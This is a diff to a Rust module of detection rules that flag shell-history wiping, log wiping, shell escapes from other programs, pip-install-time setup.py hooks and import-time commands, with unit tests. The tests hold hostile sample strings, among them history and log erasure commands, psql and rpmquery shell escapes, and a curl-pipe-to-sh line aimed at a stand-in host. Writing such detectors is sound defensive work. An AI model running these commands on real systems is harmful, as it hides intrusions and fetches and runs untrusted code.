@@ -196,7 +196,7 @@ pub const INDICATORS: &[IndicatorDef] = &[
         id: "history_wipe",
         evidence: "clears or disables shell history",
         all_of: &[&["hist"]],
-        confirm: Confirm::Regex(r"history\s+-c|unset\s+HISTFILE|HISTFILE=\s*/dev/null|HISTSIZE=0|HISTFILESIZE=0|set\s+\+o\s+history|(rm|shred|truncate|unlink)[^\n]*\.\w*_history|>\s*\S*\.(bash|zsh|sh|python)_history|ln\s+-sf?\s+/dev/null\s+\S*_history|HISTCONTROL=ignore"),
+        confirm: Confirm::Regex(r"history\s+-c|unset\s+HISTFILE|HISTFILE=\s*/dev/null|HISTSIZE=0|HISTFILESIZE=0|set\s+\+o\s+history|(rm|shred|truncate|unlink)[^\n]*\.\w*_history|(^|[;&|]\s*|:\s*|/dev/null\s*|echo\s*(\x22\x22|'')?\s*)>\s*\S*\.(bash|zsh|sh|python)_history|ln\s+-sf?\s+/dev/null\s+\S*_history|HISTCONTROL=ignore"),
     },
     IndicatorDef {
         id: "log_wipe",
@@ -428,6 +428,27 @@ pub const INDICATORS: &[IndicatorDef] = &[
         evidence: "collects environment variables or system info and sends it out",
         all_of: &[&["os.environ", "printenv", "env |", "getpass", "platform.", "gethostname", "getuser", "/etc/passwd"], PY_DOWNLOADERS],
         confirm: Confirm::Literals,
+    },
+    IndicatorDef {
+        id: "shell_spawn_argument",
+        evidence: "starts /bin/sh from inside another command (shell escape or spawn)",
+        all_of: &[&["/bin/sh", "/bin/bash", "/bin/dash", "/bin/zsh", "/bin/ash", "/bin/ksh"]],
+        confirm: Confirm::Regex(r"\S[^\n]*[\s=\x22'(:;,`]/bin/(ba|da|z|k|a)?sh\b|[^#\n]!/bin/(ba|da|z|k|a)?sh\b"),
+    },
+    IndicatorDef {
+        id: "setup_py_custom_command",
+        evidence: "setup.py overrides the install/develop command (code runs at pip-install time)",
+        all_of: &[&["cmdclass", "command.install", "command.develop", "command.egg_info", "command.build", "install_scripts"]],
+        confirm: Confirm::Regex(r"cmdclass\s*=|class\s+\w+\s*\(\s*(install|develop|egg_info|build_py|install_scripts|_install)\s*\)"),
+    },
+    IndicatorDef {
+        id: "python_toplevel_command",
+        evidence: "runs a shell command or network call at import time, outside any function (setup.py/__init__.py style)",
+        all_of: &[
+            &["import "],
+            &["os.system", "subprocess.", "popen", "exec(", "eval(", "urlopen", "requests.", "urlretrieve", "socket."],
+        ],
+        confirm: Confirm::Regex(r"(^|\n)(os\.system|os\.popen|subprocess\.\w+|exec|eval|urllib\.request\.urlopen|urlopen|urlretrieve|requests\.(get|post))\s*\("),
     },
 ];
 
@@ -740,6 +761,13 @@ mod tests {
             "crypto_miner"
         ));
         assert!(fires("history -c; unset HISTFILE", "history_wipe"));
+        assert!(fires("cat /dev/null > ~/.bash_history", "history_wipe"));
+        assert!(fires(": > /root/.bash_history", "history_wipe"));
+        // Seeding history for a desktop image is not wiping it.
+        assert!(!fires(
+            "echo \"winecfg\" >> /home/user/.bash_history",
+            "history_wipe"
+        ));
         assert!(fires("cat /dev/null > /var/log/auth.log", "log_wipe"));
         assert!(fires("rm -rf /var/log/*", "log_wipe"));
         assert!(fires(
@@ -789,6 +817,26 @@ mod tests {
         assert!(fires(
             "a=\"xyz\"; ${a:0:1}${a:1:1}${a:2:1}${a:0:1}",
             "shell_var_slicing"
+        ));
+    }
+
+    #[test]
+    fn shells_spawned_from_other_programs() {
+        assert!(fires("psql\n\\! /bin/sh", "shell_spawn_argument"));
+        assert!(fires(
+            "rpmquery --eval '%(/bin/sh 1>&2)'",
+            "shell_spawn_argument"
+        ));
+        assert!(!fires("#!/bin/sh\necho hi", "shell_spawn_argument"));
+        let setup = "from setuptools.command.install import install\nclass X(install):\n    pass\nsetup(cmdclass={'install': X})";
+        assert!(fires(setup, "setup_py_custom_command"));
+        assert!(fires(
+            "import os\nos.system('curl http://h/x | sh')\nsetup(name='x')",
+            "python_toplevel_command"
+        ));
+        assert!(!fires(
+            "import os\ndef f():\n    os.system('ls')\n",
+            "python_toplevel_command"
         ));
     }
 
